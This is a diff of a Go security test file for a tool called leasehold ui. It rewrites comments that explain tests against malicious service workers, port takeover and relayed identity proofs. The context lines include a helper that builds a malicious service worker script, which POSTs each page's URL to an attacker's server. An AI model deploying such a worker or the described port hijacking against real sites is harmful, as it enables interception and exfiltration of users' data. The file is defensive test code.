@@ -166,9 +166,9 @@ func opensWith(t testing.TB, at, loot string) string {
 	return ""
 }
 
-// planted returns the script of a malicious service worker. In the browser, this worker answers
-// requests to the origin that installed it. The worker reports each request to the attacker's
-// server at the URL in owner.
+// planted returns the script of a malicious service worker. The browser passes each request for
+// the attacked origin to this worker. The worker reports the request to the attacker's server at
+// the URL in owner, and answers it with the attacker's page if it loads a page.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -179,9 +179,9 @@ func planted(owner string) string {
 	});`
 }
 
-// A browser passes requests to the service worker of an origin before it asks the server. A
-// page of another user may have installed such a worker for an address and port that
-// leasehold ui uses later.
+// If an origin has a service worker, the browser passes requests to the worker instead of the
+// server. Another user may have served a page at the address and port that leasehold ui uses
+// later, and this page may have installed a service worker.
 func TestOldServiceWorkerDoesNotSeeSecretToken(t *testing.T) {
 	s := newScene(t)
 	owner := attack(t, "0", &attacker{})
@@ -340,8 +340,8 @@ func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 		.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });`)
 	_, port, _ := net.SplitHostPort(addr)
 
-	// Any client may request a proof that leasehold ui knows the secret. The attacker requests a
-	// proof here, and replays the proof after taking over the port.
+	// The page asks its server for a proof that the server knows the secret. Any client may ask
+	// leasehold ui for a proof. The attacker asks here, and replays the proof on the stolen port.
 	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))
 
 	p.server.kill()
@@ -380,8 +380,9 @@ func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 	}
 }
 
-// The attacker takes the port of the page. It forwards requests for a proof to another
-// leasehold ui with the same secret, and returns the valid proof of that server.
+// The page asks its server for a proof that the server knows the secret. An attacker takes the
+// server's port. It forwards the page's question to another leasehold ui with the same secret,
+// and returns the valid proof that this other server gives.
 func TestPageRejectsRelayedIdentityProof(t *testing.T) {
 	s := newScene(t)
 	p := s.ui("--token-file", "token")
